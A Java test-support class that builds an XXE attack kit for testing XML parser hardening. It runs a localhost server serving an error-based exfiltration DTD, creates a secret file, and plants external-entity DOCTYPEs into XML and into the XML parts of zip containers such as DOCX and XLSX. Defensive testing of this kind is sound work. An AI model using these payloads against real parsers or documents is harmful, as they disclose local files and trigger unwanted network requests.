package org.siarchive.support;

import com.sun.net.httpserver.HttpServer;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.net.InetSocketAddress;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.UUID;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.function.Predicate;
import java.util.zip.ZipEntry;
import java.util.zip.ZipInputStream;
import java.util.zip.ZipOutputStream;

/**
 * An attacker's kit for XML external-entity (XXE) tests: a web server on 127.0.0.1 that serves a DTD
 * and counts every request (any hit means a parser went on the network), a local file holding a secret
 * marker (any appearance of the marker means a file was disclosed), and the DOCTYPE that reaches for
 * both, planted into XML documents and into the XML parts of zip containers (OFD, XLSX, DOCX).
 *
 * <p>The served DTD is the error-based exfiltration of a real attack: it defines an entity whose system
 * id embeds the file's content, so an unhardened parser's error message carries the secret.
 */
public final class HostileXml implements AutoCloseable {

    private final HttpServer server;
    private final AtomicInteger hits = new AtomicInteger();
    private final Path secretFile;
    private final String marker =
            "SIARCHIVE-SECRET-" + UUID.randomUUID().toString().replace("-", "");

    public HostileXml() {
        try {
            secretFile = Files.createTempFile("xxe-secret-", ".txt");
            Files.writeString(secretFile, marker);
            server = HttpServer.create(new InetSocketAddress("127.0.0.1", 0), 0);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        server.createContext("/", exchange -> {
            hits.incrementAndGet();
            byte[] dtd = evilDtd().getBytes(StandardCharsets.UTF_8);
            exchange.sendResponseHeaders(200, dtd.length);
            try (var out = exchange.getResponseBody()) {
                out.write(dtd);
            }
        });
        server.start();
    }

    /** Requests the server received: every one is a parser that went on the network. */
    public int hits() {
        return hits.get();
    }

    /** The secret the local file holds; it must never be seen outside. */
    public String marker() {
        return marker;
    }

    public String dtdUrl() {
        return "http://127.0.0.1:" + server.getAddress().getPort() + "/evil.dtd";
    }

    /** An internal subset with (a) an external parameter entity to the server and (b) an external general entity to the secret file. */
    public String doctype(String root) {
        return "<!DOCTYPE " + root + " [\n"
                + "  <!ENTITY % remote SYSTEM \"" + dtdUrl() + "\">\n"
                + "  <!ENTITY secret SYSTEM \"" + secretFile.toUri() + "\">\n"
                + "  %remote;\n"
                + "]>\n";
    }

    /** A small XML document that uses both entities. */
    public byte[] document() {
        return ("<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n" + doctype("r") + "<r>&secret;</r>\n")
                .getBytes(StandardCharsets.UTF_8);
    }

    /** Plants the DOCTYPE (and a use of the file entity) into {@code xml}, right after its declaration. */
    public String plant(String xml) {
        int declEnd = xml.startsWith("<?xml") ? xml.indexOf("?>") + 2 : 0;
        int rootStart = xml.indexOf('<', declEnd);
        while (xml.startsWith("<!--", rootStart) || xml.startsWith("<?", rootStart)) {
            rootStart = xml.indexOf('<', rootStart + 1);
        }
        int rootEnd = xml.indexOf('>', rootStart);
        String rootName = xml.substring(rootStart + 1, rootEnd).split("[\\s/>]")[0];
        boolean selfClosing = xml.charAt(rootEnd - 1) == '/';
        String withUse = selfClosing
                ? xml.substring(0, rootEnd - 1) + ">&secret;</" + rootName + ">" + xml.substring(rootEnd + 1)
                : xml.substring(0, rootEnd + 1) + "&secret;" + xml.substring(rootEnd + 1);
        return withUse.substring(0, declEnd) + "\n" + doctype(rootName) + withUse.substring(declEnd);
    }

    /** A copy of the zip container with the DOCTYPE planted into every entry whose name {@code target} accepts. */
    public byte[] plantIntoZip(byte[] zip, Predicate<String> target) {
        var out = new ByteArrayOutputStream();
        int planted = 0;
        try (var in = new ZipInputStream(new ByteArrayInputStream(zip));
                var z = new ZipOutputStream(out)) {
            for (ZipEntry e = in.getNextEntry(); e != null; e = in.getNextEntry()) {
                byte[] content = in.readAllBytes();
                if (!e.isDirectory() && target.test(e.getName())) {
                    content = plant(new String(content, StandardCharsets.UTF_8)).getBytes(StandardCharsets.UTF_8);
                    planted++;
                }
                z.putNextEntry(new ZipEntry(e.getName()));
                z.write(content);
                z.closeEntry();
            }
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        if (planted == 0) {
            throw new IllegalArgumentException("no entry of the container was targeted");
        }
        return out.toByteArray();
    }

    private String evilDtd() {
        return "<!ENTITY % file SYSTEM \"" + secretFile.toUri() + "\">\n"
                + "<!ENTITY % eval \"<!ENTITY &#x25; exfil SYSTEM 'file:///nonexistent/%file;'>\">\n"
                + "%eval;\n"
                + "%exfil;\n";
    }

    @Override
    public void close() {
        server.stop(0);
        try {
            Files.deleteIfExists(secretFile);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }
}
